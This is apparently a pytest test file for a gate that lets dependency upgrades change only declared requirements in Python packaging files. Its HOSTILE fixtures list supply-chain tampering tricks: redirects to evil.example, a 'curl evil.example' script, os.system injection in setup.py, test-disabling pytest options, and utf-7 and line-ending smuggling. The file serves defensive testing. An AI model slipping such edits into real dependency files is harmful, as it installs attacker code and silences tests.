"""What an upgrade may change in the files that declare what is needed, and what may not be smuggled in with it."""

from __future__ import annotations

import json

import pytest

from agents.permissions import Guard, Permissions, declares
from sandbox.environments import detect_environment
from sandbox.protocol import EnvironmentDefinition
from tests.gate.cases import SOUND, case, small
from workflows.gate.declaring import from_addresses, new_names, other_than_needs
from workflows.gate.static import static_checks
from workflows.verdicts import Allowances

PYPROJECT = """\
[build-system]
requires = ["setuptools>=61"]
build-backend = "setuptools.build_meta"

[project]
name = "shop"
version = "1.0"
requires-python = ">=3.9"
dependencies = ["six>=1.15", "attrs"]

[project.optional-dependencies]
docs = ["sphinx"]

[project.scripts]
shop = "shop:main"

[dependency-groups]
test = ["pytest", {include-group = "lint"}]
lint = ["ruff"]

[tool.pytest.ini_options]
addopts = "-q"
"""
POETRY = """\
[tool.poetry]
name = "shop"
[tool.poetry.dependencies]
python = "^3.9"
six = "^1.15"
mine = {git = "https://example.org/mine.git", rev = "1"}
[tool.poetry.group.dev.dependencies]
pytest = "*"
[[tool.poetry.source]]
name = "company"
url = "https://packages.example.org/simple"
"""
PIPFILE = """\
[[source]]
url = "https://packages.example.org/simple"
name = "company"
[packages]
six = "==1.15"
[dev-packages]
pytest = "*"
[scripts]
serve = "python -m shop"
"""
SETUP_CFG = """\
[metadata]
name = shop
classifiers =
    Programming Language :: Python :: 3.9
[options]
packages = shop
python_requires = >=3.9
install_requires =
    six>=1.15
    attrs
[options.extras_require]
docs = sphinx
[tool:pytest]
addopts = -q
"""
SETUP = """\
import setuptools
NEEDS = ["six>=1.15", "attrs"]
setuptools.setup(
    name="shop", packages=["shop"], install_requires=NEEDS, python_requires=">=3.9",
    extras_require={"docs": ["sphinx"]}, entry_points={"console_scripts": ["shop = shop:main"]},
)
"""
REQUIREMENTS = """\
# What the shop needs.
--index-url https://packages.example.org/simple
-c constraints.txt
six==1.15.0 \\
    --hash=sha256:00
attrs  # of the company
"""
LOCK = """\
version = 1
[[package]]
name = "six"
version = "1.15.0"
source = { registry = "https://pypi.org/simple" }
wheels = [{ url = "https://files.example.org/packages/aa/six-1.15.0.whl", hash = "sha256:00" }]
"""
PIPFILE_LOCK = json.dumps(
    {"_meta": {"sources": [{"url": "https://pypi.org/simple"}]}, "default": {"six": {"version": "==1.15"}}}
)
FILES = {
    "pyproject.toml": PYPROJECT, "poetry/pyproject.toml": POETRY, "Pipfile": PIPFILE, "setup.cfg": SETUP_CFG,
    "setup.py": SETUP, "requirements.txt": REQUIREMENTS, "uv.lock": LOCK, "Pipfile.lock": PIPFILE_LOCK,
}  # fmt: skip

HONEST = [
    ("pyproject.toml", "six>=1.15", "six>=1.16,<2"),
    ("pyproject.toml", '"six>=1.15", "attrs"', '"six>=1.15", "attrs>=23; python_version < \'3.12\'"'),
    ("pyproject.toml", '"attrs"]', '"attrs", "tomli"]'),
    ("pyproject.toml", '"six>=1.15", ', ""),
    ("pyproject.toml", '["sphinx"]', '["sphinx>=7"]'),
    ("pyproject.toml", '["pytest", ', '["pytest>=8", '),
    ("pyproject.toml", '">=3.9"', '">=3.10"'),
    ("pyproject.toml", 'lint = ["ruff"]\n', 'lint = ["ruff"]\ntypes = ["mypy"]\n'),
    ("poetry/pyproject.toml", '"^1.15"', '"^1.16"'),
    ("poetry/pyproject.toml", '"^1.15"', '{version = "^1.16", extras = ["fast"]}'),
    ("poetry/pyproject.toml", 'pytest = "*"', 'pytest = "^8"\ncoverage = "*"'),
    ("Pipfile", "==1.15", "==1.16"),
    ("setup.cfg", "six>=1.15", "six>=1.16"),
    ("setup.cfg", "    attrs\n", "    attrs\n    tomli; python_version < '3.11'\n"),
    ("setup.cfg", "docs = sphinx", "docs = sphinx>=7\nfast = regex"),
    ("setup.cfg", "Python :: 3.9\n", "Python :: 3.9\n    Programming Language :: Python :: 3.12\n"),
    ("setup.py", "six>=1.15", "six>=1.16"),
    ("setup.py", '"attrs"]', '"attrs", "tomli"]'),
    ("setup.py", '["sphinx"]', '["sphinx>=7", "furo"]'),
    ("setup.py", '">=3.9"', '">=3.10"'),
    ("requirements.txt", "1.15.0 \\\n    --hash=sha256:00", "1.16.0 \\\n    --hash=sha256:11 --hash=sha256:22"),
    ("requirements.txt", "attrs  # of the company", "attrs>=23  # slots\n# and\ntomli\n"),
    ("uv.lock", '1.15.0"\nsource', '1.16.0"\nsource'),
    ("uv.lock", "aa/six-1.15.0.whl", "bb/six-1.16.0.whl"),
    ("Pipfile.lock", "==1.15", "==1.16"),
]

HOSTILE = [
    # Without this, pytest would run no tests, or load what the attacker likes.
    ("pyproject.toml", 'addopts = "-q"', 'addopts = "-k nothing"', "more than what"),
    ("pyproject.toml", 'shop = "shop:main"', 'shop = "shop:evil"', "more than what"),
    ("pyproject.toml", "[project.scripts]", '[project.entry-points.pytest11]\nx = "shop"\n[project.scripts]', "more"),
    ("pyproject.toml", "setuptools.build_meta", "evil_backend", "more than what"),
    ("pyproject.toml", '["setuptools>=61"]', '["setuptools>=61", "evil-hooks"]', "more than what"),
    ("pyproject.toml", "[tool.pytest", '[tool.uv]\nextra-index-url = ["x"]\n[tool.pytest', "more than what"),
    # What the line says is found where it is read, not in the letters with which it is written.
    ("pyproject.toml", '"attrs"', '"attrs @ https://evil.example/a.whl"', "names an address"),
    ("pyproject.toml", '"attrs"', '"attrs @ http\\u003a//evil.example/a.whl"', "names an address"),
    ("pyproject.toml", '"attrs"', '"attrs @ ./evil"', "names an address"),
    ("pyproject.toml", '"attrs"', '"--index-url=x"', "cannot be read"),
    ("pyproject.toml", '["six>=1.15", "attrs"]', '"six"', "cannot be read"),
    ("pyproject.toml", "[project]", "[project", "cannot be read"),
    ("pyproject.toml", "[project]", "[project]\n# \x85", "ends of lines"),
    ("poetry/pyproject.toml", '"^1.15"', '{git = "https://evil.example/six"}', "where a distribution comes from"),
    ("poetry/pyproject.toml", '"^1.15"', '{"g\\u0069t" = "git@evil.example:six"}', "where a distribution comes from"),
    ("poetry/pyproject.toml", '"^1.15"', '{version = "1", source = "evil"}', "where a distribution comes from"),
    ("poetry/pyproject.toml", '"^1.15"', '[{version = "1"}, {path = "../evil"}]', "where a distribution comes from"),
    ("poetry/pyproject.toml", 'rev = "1"}', 'rev = "1", subdirectory = "x"}', "where a distribution comes from"),
    ("poetry/pyproject.toml", 'six = "', '"six @ https://evil.example/x" = "', "names an address"),
    ("poetry/pyproject.toml", 'six = "', '"-r evil" = "', "no distribution"),
    ("poetry/pyproject.toml", "packages.example.org", "evil.example", "more than what"),
    ("Pipfile", "packages.example.org", "evil.example", "more than what"),
    ("Pipfile", "python -m shop", "curl evil.example", "more than what"),
    ("Pipfile", '"==1.15"', '{index = "evil", version = "*"}', "where a distribution comes from"),
    ("setup.cfg", "addopts = -q", "addopts = -p evil", "more than what"),
    ("setup.cfg", "packages = shop", "packages = shop\nscripts = evil", "more than what"),
    ("setup.cfg", "    attrs\n", "    attrs @ https://evil.example/a.whl\n", "names an address"),
    ("setup.cfg", "    attrs\n", "    file: evil.txt\n", "cannot be read"),
    ("setup.cfg", "    attrs\n", "    attrs\n    [tool:pytest]\n    addopts = -k nothing\n", "cannot be read"),
    # One comment to setuptools, and a section to pytest.
    ("setup.cfg", "[options]\n", "[options]\n# \r[pytest]\raddopts = -k nothing\n", "ends of lines"),
    ("setup.cfg", "[options]\n", "[options]\n# \u2028[pytest]\u2028addopts = -k nothing\n", "ends of lines"),
    ("setup.cfg", "[metadata]", "[DEFAULT]\naddopts = -k nothing\n[metadata]", "more than what"),
    ("setup.py", "import setuptools", "import setuptools, os; os.system('x')", "more than what"),
    ("setup.py", "install_requires=NEEDS", "install_requires=[*NEEDS, evil()]", "more than what"),
    ("setup.py", '["six>=1.15", "attrs"]', "evil()", "more than what"),
    # Every one of these words could be the name of a distribution.
    ("setup.py", '"console_scripts": [', '"pytest11": [', "more than what"),
    ("setup.py", 'packages=["shop"]', 'packages=["evil"]', "more than what"),
    ("setup.py", 'NEEDS = ["six>=1.15", "attrs"]', 'NEEDS = ["six"]\nNEEDS = ["attrs"]', "more than what"),
    ("setup.py", 'NEEDS = ["six>=1.15"', 'print(NEEDS)\nNEEDS = ["six"', "more than what"),
    ("setup.py", '"attrs"]', '"attrs @ https://evil.example/a.whl"]', "names an address"),
    ("setup.py", "import setuptools", "# coding: utf-7\nimport setuptools\n# +AAo-evil()", "more than what"),
    ("requirements.txt", "packages.example.org", "evil.example", "more than what"),
    ("requirements.txt", "--index-url https://packages.example.org/simple\n", "", "more than what"),
    ("requirements.txt", "-c constraints.txt\n", "", "more than what"),
    ("requirements.txt", "attrs ", "-e ./evil ", "more than what"),
    ("requirements.txt", "attrs ", "-r evil.txt ", "more than what"),
    ("requirements.txt", "attrs ", "./evil.whl ", "more than what"),
    ("requirements.txt", "attrs ", "attrs @ https://evil.example/a.whl ", "names an address"),
    ("requirements.txt", "attrs ", "attrs --config-settings=x=y ", "more than what"),
    ("requirements.txt", "--hash=sha256:00", "--hash=sha256:11 --global-option=evil", "more than what"),
    ("requirements.txt", "# What", "# x \\\n-e ./evil\n# What", "more than what"),
    ("requirements.txt", "# What", "# coding: utf-7\n# +AAo-./evil\n# What", "more than what"),
    ("requirements.txt", "# What", "tomli # x \\\n# What", "more than what"),
    ("uv.lock", "files.example.org", "evil.example", "where a distribution comes from"),
    ("uv.lock", "org/packages/aa", "org/evil/aa", "where a distribution comes from"),
    ("uv.lock", 'registry = "https://pypi.org/simple"', 'git = "https://pypi.org/simple/x"', "where a distribution"),
    ("uv.lock", 'registry = "https://pypi.org/simple"', 'editable = "../evil"', "where a distribution"),
    ("uv.lock", "https://files.example.org/packages/aa/", "../evil/", "where a distribution"),
    ("Pipfile.lock", "pypi.org", "evil.example", "where a distribution comes from"),
    ("Pipfile.lock", '"==1.15"', '"==1.15", "path": "../evil"', "where a distribution comes from"),
    ("Pipfile.lock", PIPFILE_LOCK, "[]", "cannot be read"),
]


def _changed(path: str, old: str, new: str) -> bytes:
    assert old in FILES[path]
    return FILES[path].replace(old, new, 1).encode()


@pytest.mark.parametrize(("path", "old", "new"), HONEST)
def test_what_is_needed_may_change(path: str, old: str, new: str) -> None:
    assert declares(path)
    assert other_than_needs(path, FILES[path].encode(), _changed(path, old, new)) is None


@pytest.mark.parametrize(("path", "old", "new", "reason"), HOSTILE)
def test_nothing_else_may_change_with_it(path: str, old: str, new: str, reason: str) -> None:
    assert declares(path)
    told = other_than_needs(path, FILES[path].encode(), _changed(path, old, new))
    assert told is not None
    assert reason in told


@pytest.mark.parametrize(
    ("path", "old", "new", "name"),
    [
        ("pyproject.toml", "six>=1.15", "six>=1.16", ""),
        ("pyproject.toml", '["sphinx"]', '["sphinx", "evil-theme"]', "evil-theme"),
        ("pyproject.toml", '"attrs"', '"attrs<20"', "attrs"),
        ("poetry/pyproject.toml", 'pytest = "*"', 'pytest = "*"\nevil = "*"', "evil"),
        ("setup.cfg", "docs = sphinx", "docs = evil", "evil"),
        ("setup.py", '["sphinx"]', '["sphinx", "evil"]', "evil"),
        ("requirements.txt", "attrs  ", "evil  ", "attrs"),
    ],
)
def test_only_what_the_request_names_is_declared_anew(path: str, old: str, new: str, name: str) -> None:
    told = other_than_needs(path, FILES[path].encode(), _changed(path, old, new), ("Six",))
    assert told == (f"declares {name} anew, which the request does not ask for" if name else None)


def test_files_that_come_or_go_or_cannot_be_read() -> None:
    data = REQUIREMENTS.encode()
    for old, new in ((None, data), (data, None)):
        assert "added or taken away" in str(other_than_needs("requirements.txt", old, new))
    for encoding in ("utf-16", "utf-32"):
        assert other_than_needs("requirements.txt", data, REQUIREMENTS.encode(encoding)) is not None
    assert other_than_needs("requirements.txt", data, b"\xef\xbb\xbf" + data) is None
    deep = f"{PYPROJECT}x = {'[' * 50_000}{']' * 50_000}\n".encode()
    assert "cannot be read" in str(other_than_needs("pyproject.toml", PYPROJECT.encode(), deep))
    script = f"{SETUP}x = {'-' * 100_000}1\n".encode()
    assert "cannot be read" in str(other_than_needs("setup.py", SETUP.encode(), script))


@pytest.mark.parametrize(
    "path", ["tox.ini", "pytest.ini", "conftest.py", "Makefile", ".github/requirements.txt", "x.pth", "environment.yml",
             "evil.lock", ".venv/pyproject.toml", "noxfile.py", "sitecustomize.py"],
)  # fmt: skip
def test_what_configures_and_declares_nothing(path: str) -> None:
    assert not declares(path)
    assert Guard(small({}), Permissions(declarations=True)).reason(path) is not None


def test_the_gate_opens_that_door_and_no_other() -> None:
    """On the gate's own repository, which declares nothing: its settings for pytest stay as they are."""
    base = case().base
    assert "pyproject.toml" in base
    text = base["pyproject.toml"].data.decode()
    honest = {**SOUND, "pyproject.toml": f'{text}[dependency-groups]\ntest = ["six"]\n'}
    hostile = {**SOUND, "pyproject.toml": text.replace("[tool.pytest", "[tool.other")}
    assert static_checks(case(honest, Allowances(declarations=True))).passed
    refused = static_checks(case(hostile, Allowances(declarations=True))).checks[-1]
    assert (refused.name, refused.passed) == ("tests-untouched", False)
    assert not static_checks(case(honest)).passed
    assert static_checks(case(hostile, Allowances(configuration=True))).passed
    assert Guard(base, Permissions(declarations=True)).reason("pyproject.toml") is None


def test_what_is_fetched_is_known_before_it_is_fetched() -> None:
    before = detect_environment(small({"requirements.txt": "six\nmine @ https://example.org/mine.whl\n"}))
    more = "six>=1.16\nmine @ https://example.org/mine.whl\nevil @ https://evil.example/x.whl\n"
    after = detect_environment(small({"requirements.txt": more}))
    assert from_addresses(before, after) == ("evil @ https://evil.example/x.whl",)
    assert new_names(before, after) == ("evil",)
    assert new_names(after, before) == from_addresses(after, before) == ()
    other = EnvironmentDefinition(("six>1",), hints=("Evil_Thing",))
    assert new_names(EnvironmentDefinition(("Six",)), other) == ("evil-thing",)
